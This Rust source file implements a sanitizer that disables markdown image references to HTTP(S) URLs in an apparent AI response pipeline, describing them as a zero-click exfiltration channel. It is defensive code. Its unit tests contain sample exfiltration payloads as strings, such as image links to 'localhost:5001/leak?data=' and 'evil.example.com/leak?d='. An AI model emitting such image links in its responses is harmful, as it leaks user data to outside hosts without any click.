//! Output Sanitizer
//!
//! Disables markdown image syntax pointing at HTTP(S) origins. An image
//! reference is fetched by the client the moment it renders, with no
//! user action, which makes it the exfiltration channel of choice; a
//! plain link still requires a click, so links are left alone. Applied
//! regardless of the response scanner's verdict, and applied again as
//! the final step before text leaves the pipeline.
//!
//! The rewrite is idempotent: the disabled form contains no URL and no
//! renderable target, so a second pass finds nothing to do.

use regex::Regex;

/// A complete image reference: `![alt](http...)`.
const IMAGE_PATTERN: &str = r"!\[([^\]]*)\]\(\s*https?://[^)]*\)";

/// A dangling image reference that never closes its parenthesis. Broken
/// markdown still renders in some clients, so ambiguity resolves toward
/// stripping the span.
const DANGLING_IMAGE_PATTERN: &str = r"(?m)!\[([^\]]*)\]\(\s*https?://[^)\n]*$";

const DISABLED_TEMPLATE: &str = "![Image: $1 - link disabled]";

/// Rewrite auto-fetching image references to a non-renderable form.
/// Fenced code blocks pass through untouched.
pub fn sanitize(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for (i, segment) in text.split("```").enumerate() {
        if i > 0 {
            out.push_str("```");
        }
        if i % 2 == 0 {
            out.push_str(&disable_images(segment));
        } else {
            out.push_str(segment);
        }
    }
    out
}

fn disable_images(segment: &str) -> String {
    let rewritten = Regex::new(IMAGE_PATTERN)
        .map(|re| re.replace_all(segment, DISABLED_TEMPLATE).to_string())
        .unwrap_or_else(|_| segment.to_string());

    Regex::new(DANGLING_IMAGE_PATTERN)
        .map(|re| re.replace_all(&rewritten, DISABLED_TEMPLATE).to_string())
        .unwrap_or(rewritten)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_image_reference_disabled() {
        let text = "Summary.\n![Audit](http://localhost:5001/leak?data=abc)";
        let sanitized = sanitize(text);
        assert_eq!(sanitized, "Summary.\n![Image: Audit - link disabled]");
    }

    #[test]
    fn test_https_image_disabled() {
        let sanitized = sanitize("![logo](https://cdn.example.com/logo.png)");
        assert!(!sanitized.contains("https://"));
        assert!(sanitized.contains("link disabled"));
    }

    #[test]
    fn test_plain_text_untouched() {
        let text = "佐藤さんは開発部の部長です。";
        assert_eq!(sanitize(text), text);
    }

    #[test]
    fn test_non_image_link_untouched() {
        let text = "See [the handbook](https://example.com/handbook).";
        assert_eq!(sanitize(text), text);
    }

    #[test]
    fn test_code_block_untouched() {
        let text = "Example:\n```\n![img](http://example.com/a.png)\n```\ndone";
        assert_eq!(sanitize(text), text);
    }

    #[test]
    fn test_idempotent() {
        let inputs = [
            "![Audit](http://localhost:5001/leak?data=abc)",
            "plain text",
            "mixed ![a](https://x.example.com/i.png) and [b](https://example.com)",
            "dangling ![a](http://example.com/never-closed",
        ];
        for input in inputs {
            let once = sanitize(input);
            assert_eq!(sanitize(&once), once, "not idempotent for {input}");
        }
    }

    #[test]
    fn test_dangling_image_stripped() {
        let sanitized = sanitize("x ![a](http://evil.example.com/leak?d=");
        assert!(!sanitized.contains("http://"));
        assert!(sanitized.contains("link disabled"));
    }

    #[test]
    fn test_image_with_invisible_characters_disabled() {
        let sanitized = sanitize("![Audit](http://localhost:5001/leak?data=\u{2063}PII\u{2063})");
        assert!(!sanitized.contains("localhost"));
    }

    #[test]
    fn test_rewrite_introduces_no_new_link_syntax() {
        let sanitized = sanitize("![a](http://example.com/x)");
        assert!(!sanitized.contains("]("));
    }
}
